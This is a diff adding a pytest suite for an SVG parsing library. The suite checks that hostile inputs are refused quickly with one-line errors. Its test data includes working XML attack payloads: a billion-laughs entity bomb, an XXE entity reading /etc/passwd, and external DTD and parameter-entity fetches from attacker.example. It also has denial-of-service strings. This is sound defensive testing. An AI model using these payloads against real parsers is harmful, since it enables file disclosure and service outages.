@@ -1,0 +1,199 @@
+"""Hostile inputs: each is refused with a one-line SVGError, fast."""
+
+import time
+
+import pytest
+
+from gfx.svg.document import SVGError
+from gfx.svg.parse import ParseLimits, load_svg, parse_svg
+
+BILLION_LAUGHS = """<?xml version="1.0"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+]>
+<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>"""
+
+EXTERNAL_ENTITY = """<?xml version="1.0"?>
+<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>"""
+
+EXTERNAL_DTD = """<?xml version="1.0"?>
+<!DOCTYPE svg SYSTEM "http://attacker.example/evil.dtd">
+<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L1 1"/></svg>"""
+
+PARAMETER_ENTITY = """<?xml version="1.0"?>
+<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
+<svg xmlns="http://www.w3.org/2000/svg"/>"""
+
+UNDEFINED_ENTITY_WITH_W3C_DTD = """<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
+ "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
+<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L1 1"/>&ext;</svg>"""
+
+
+def _deep_groups(depth: int) -> str:
+    return '<svg xmlns="http://www.w3.org/2000/svg">' + "<g>" * depth + "</g>" * depth + "</svg>"
+
+
+def _many_commands(n: int, implicit: bool) -> str:
+    body = "M0 0" + (" 1 1" * n if implicit else "L1 1" * n)
+    return f'<svg xmlns="http://www.w3.org/2000/svg"><path d="{body}"/></svg>'
+
+
+HOSTILE = {
+    "billion laughs": (BILLION_LAUGHS, "internal subset"),
+    "external entity": (EXTERNAL_ENTITY, "internal subset"),
+    "external dtd": (EXTERNAL_DTD, "external DTD 'http://attacker.example/evil.dtd'"),
+    "parameter entity": (PARAMETER_ENTITY, "internal subset"),
+    "undefined entity": (UNDEFINED_ENTITY_WITH_W3C_DTD, "undefined entity &ext;"),
+    "1000-deep groups": (_deep_groups(1000), "nests elements 65 deep; the limit is 64 (max_depth)"),
+    "1e6 path commands": (
+        _many_commands(10**6, False),
+        "has at least 1000001 path commands; the limit is 20000 (max_commands)",
+    ),
+    "1e6 implicit commands": (
+        _many_commands(10**6, True),
+        "has at least 20001 path commands; the limit is 20000 (max_commands)",
+    ),
+    "nan in path": (
+        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0Lnan 1"/></svg>',
+        "has 'nan 1' at offset 5 where a number for L is expected",
+    ),
+    "inf in path": ('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L1e999 1"/></svg>', "not finite"),
+    "inf in attribute": (
+        '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1e999"/></svg>',
+        "'1e999', which is not finite",
+    ),
+    "nan in attribute": (
+        '<svg xmlns="http://www.w3.org/2000/svg"><circle r="NaN"/></svg>',
+        "'NaN' is not a length",
+    ),
+    "nan in transform": (
+        '<svg xmlns="http://www.w3.org/2000/svg"><g transform="scale(nan)"/></svg>',
+        "where a number is expected",
+    ),
+    "inf in viewBox": ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1e400 1"/>', "not finite"),
+    "non-svg xml": (
+        '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
+        "is not SVG: its root element is <{http://www.w3.org/1999/xhtml}html>",
+    ),
+    "svg in another namespace": ('<svg xmlns="urn:not-svg"/>', "is not SVG"),
+    "binary junk": (bytes(range(256)) * 4, "is not well-formed XML"),
+    "empty": ("", "is empty"),
+    "whitespace only": (b"  \n\t ", "is empty"),
+    "truncated": (
+        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L1 1"',
+        "is not well-formed XML: unclosed token",
+    ),
+    "unclosed": ('<svg xmlns="http://www.w3.org/2000/svg"><g>', "no element found"),
+}
+
+
+@pytest.mark.parametrize("name", list(HOSTILE))
+def test_hostile_input_is_refused_fast(name):
+    data, expected = HOSTILE[name]
+    start = time.perf_counter()
+    with pytest.raises(SVGError) as info:
+        parse_svg(data, source="icon.svg")
+    elapsed = time.perf_counter() - start
+    message = str(info.value)
+    assert expected in message
+    assert message.startswith("icon.svg")
+    assert "\n" not in message
+    assert elapsed < 1.0, f"{name} took {elapsed:.2f} s"
+
+
+def test_50_megabyte_file_is_refused_before_parsing(tmp_path):
+    path = tmp_path / "huge.svg"
+    with open(path, "wb") as f:
+        f.write(b'<svg xmlns="http://www.w3.org/2000/svg">')
+        f.write(b" " * (50 * 2**20))
+        f.write(b"</svg>")
+    size = path.stat().st_size
+    start = time.perf_counter()
+    with pytest.raises(SVGError, match=rf"huge.svg is {size} bytes; the limit is 10000000 \(max_bytes\)"):
+        load_svg(path)
+    data = path.read_bytes()
+    with pytest.raises(SVGError, match=r"the limit is 10000000 \(max_bytes\)"):
+        parse_svg(data)
+    assert time.perf_counter() - start < 1.0
+
+
+def test_limits_are_configurable():
+    doc = (
+        '<svg xmlns="http://www.w3.org/2000/svg"><g><g><path d="M0 0L1 1L2 2"/></g></g><circle r="1"/></svg>'
+    )
+    assert len(parse_svg(doc).elements) == 2
+    with pytest.raises(SVGError, match=r"<svg> nests elements 3 deep; the limit is 2 \(max_depth\)"):
+        parse_svg(doc, limits=ParseLimits(max_depth=2))
+    with pytest.raises(SVGError, match=r"more than 4 elements; the limit is 4 \(max_elements\)"):
+        parse_svg(doc, limits=ParseLimits(max_elements=4))
+    with pytest.raises(SVGError, match=r"has at least 3 path commands; the limit is 2 \(max_commands\)"):
+        parse_svg(doc, limits=ParseLimits(max_commands=2))
+    with pytest.raises(SVGError, match=r"the limit is 50 \(max_bytes\)"):
+        parse_svg(doc, limits=ParseLimits(max_bytes=50))
+
+
+def test_command_budget_is_shared_by_the_whole_document():
+    paths = '<path d="M0 0L1 1"/>' * 6  # 12 commands in all
+    doc = f'<svg xmlns="http://www.w3.org/2000/svg">{paths}<polyline points="0,0 1,1 2,2"/></svg>'
+    assert len(parse_svg(doc, limits=ParseLimits(max_commands=15)).elements) == 7
+    with pytest.raises(SVGError, match=r"has at least 15 path commands; the limit is 14 \(max_commands\)"):
+        parse_svg(doc, limits=ParseLimits(max_commands=14))
+    with pytest.raises(SVGError, match=r"has at least 12 path commands; the limit is 10 \(max_commands\)"):
+        parse_svg(doc, limits=ParseLimits(max_commands=10))
+
+
+def test_huge_polyline_is_refused_fast():
+    points = " ".join(["1,2"] * 10**6)
+    start = time.perf_counter()
+    with pytest.raises(SVGError, match=r"the limit is 20000 \(max_commands\)"):
+        parse_svg(f'<svg xmlns="http://www.w3.org/2000/svg"><polygon points="{points}"/></svg>')
+    assert time.perf_counter() - start < 1.0
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<svg xmlns="http://www.w3.org/2000/svg"><path d="' + " " * 2_000_000 + 'x"/></svg>',
+        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0' + "," * 2_000_000 + '"/></svg>',
+        '<svg xmlns="http://www.w3.org/2000/svg"><g transform="' + "scale(" * 200_000 + '"/></svg>',
+        '<svg xmlns="http://www.w3.org/2000/svg"><g style="' + "/*" * 1_000_000 + '"/></svg>',
+        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M' + "1" * 2_000_000 + 'e"/></svg>',
+        '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1' + " " * 2_000_000 + 'x"/></svg>',
+        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0" fill="rgb(' + "1 " * 1_000_000 + '"/></svg>',
+    ],
+    ids=["spaces", "commas", "open-parens", "open-comments", "long-number", "spaced-length", "long-colour"],
+)
+def test_pathological_text_never_hangs(text):
+    start = time.perf_counter()
+    try:
+        parse_svg(text)
+    except SVGError as err:
+        assert "\n" not in str(err)
+    assert time.perf_counter() - start < 1.0
+
+
+def test_huge_coordinates_are_refused():
+    text = '<svg xmlns="http://www.w3.org/2000/svg"><g transform="scale(1e10)"><circle r="1e10"/></g></svg>'
+    with pytest.raises(
+        SVGError, match=r"a.svg: a <circle> has coordinates beyond 1e\+15 after its transform"
+    ):
+        parse_svg(text, source="a.svg")
+    text = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1e300"/></svg>'
+    with pytest.raises(
+        SVGError, match=r"a.svg: <circle> r has the number '1e300', beyond the largest magnitude"
+    ):
+        parse_svg(text, source="a.svg")
+    with pytest.raises(SVGError, match=r"<path> d has a coordinate that is not finite or beyond 1e\+15"):
+        parse_svg('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0l1e15 0 1e15 0"/></svg>')
+
+
+def test_the_w3c_doctype_is_accepted_without_fetching():
+    text = """<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
+<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><path d="M0 0L1 1"/></svg>"""
+    assert parse_svg(text).view_box == (0, 0, 10, 10)
